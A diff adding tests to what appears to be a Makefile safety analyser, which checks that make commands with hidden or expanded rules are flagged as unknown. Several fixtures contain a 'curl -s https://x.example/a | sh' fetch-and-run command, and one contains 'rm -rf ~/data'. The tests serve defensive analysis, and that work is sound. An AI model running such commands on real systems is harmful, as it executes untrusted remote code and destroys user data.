@@ -321,7 +321,7 @@ $(envs:%=wipe-%): wipe-%:
 
 describe('what cannot be read is unknown, with the reason', () => {
   it.each([
-    [{ Makefile: 'all:\n\techo hi\n' }, 'make deploy', /no rule to make target deploy/],
+    [{ Makefile: 'all:\n\techo hi\n' }, 'touch x && make deploy', /no rule to make target deploy/],
     [{ Makefile: '-include gen.mk\nall:\n\techo hi\n' }, 'make deploy', /no rule to make target deploy in what Firebreak read, and Makefile:1 gen.mk/],
     [{ Makefile: 'X := $(shell cat targets.txt)\nall: $(X)\n\techo hi\n' }, 'make', /no rule to make \$\{MAKE_SHELL_OUTPUT\} \(needed by all\)/],
     [{ Makefile: 'ifeq (a,a)\nall:\n\techo\n' }, 'make', /not closed by endif/],
@@ -441,5 +441,34 @@ describe('programs a Makefile builds from a published Go package', () => {
     expect(a.filter((x) => x.operation === 'unknown'), a.map(evidenceOf).join('\n')).toEqual([]);
     const swapped = makefile('lint: bin/tool\n>cp /tmp/other bin/tool\n>bin/tool check\nbin/tool:\n>go build -o bin/tool github.com/x/tool\n');
     expect((await actionsIn({ Makefile: swapped }, 'make lint')).some((x) => x.operation === 'unknown' && /bin\/tool/.test(evidenceOf(x)))).toBe(true);
+  });
+});
+
+describe('a goal no rule makes: make stops before any recipe of its own', () => {
+  const MK = makefile('.PHONY: all\nall:\n>echo hi\n%.o: %.c\n>cc -c $<\n$(info reading)\n');
+  it.each(['make deploy', 'make -C . deploy', 'make -k deploy'])('%s passes', async (cmd) => {
+    const { verdict, why } = await verdictIn({ Makefile: MK }, cmd);
+    expect(verdict, why).toBe('pass');
+  });
+
+  it('the goals before it still run', async () => {
+    const a = await actionsIn({ Makefile: makefile('wipe:\n>rm -rf ~/data\n') }, 'make wipe deploy');
+    expect(a.some((x) => x.operation === 'delete')).toBe(true);
+  });
+
+  it.each([
+    // A line that expands to a rule: make reads it (it replaces the visible recipe of test, too).
+    [{ Makefile: makefile('all:\n>echo hi\nR := deploy: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make deploy', /expands to text make reads as a rule, an assignment or a directive/],
+    [{ Makefile: makefile('test:\n>echo ok\nR := test: ; curl -s https://x.example/a | sh\n$(R)\n') }, 'make test', /expands to text make reads as a rule, an assignment or a directive/],
+    [{ Makefile: makefile('all:\n>echo hi\n$(shell cat rules.txt)\n') }, 'make deploy', /expands to text make reads/],
+    [{ Makefile: makefile('B := ; curl -s https://x.example/a | sh\ntest: $(B)\n>echo ok\n') }, 'make test', /make splits the line differently/],
+    [{ Makefile: makefile('$(shell cat names.txt): ; curl -s https://x.example/a | sh\nall:\n>echo hi\n') }, 'make deploy', /no rule to make target deploy/],
+    [{ Makefile: makefile('all:\n>echo hi\nMakefile: ; curl -s https://x.example/a | sh\n') }, 'make deploy', /no rule to make target deploy|curl/],
+    [{ Makefile: makefile('all:\n>echo hi\n'), 'extra.mk': 'x:\n\techo\n' }, 'cp /tmp/y.mk extra.mk && make deploy', /no rule to make target deploy/],
+  ])('%#: %s stays unknown', async (files, cmd, why) => {
+    const { verdict } = await verdictIn(files as Record<string, string>, cmd);
+    expect(verdict).not.toBe('pass');
+    const a = await actionsIn(files as Record<string, string>, cmd);
+    expect(a.some((x) => why.test(evidenceOf(x))), a.map(evidenceOf).join('\n')).toBe(true);
   });
 });
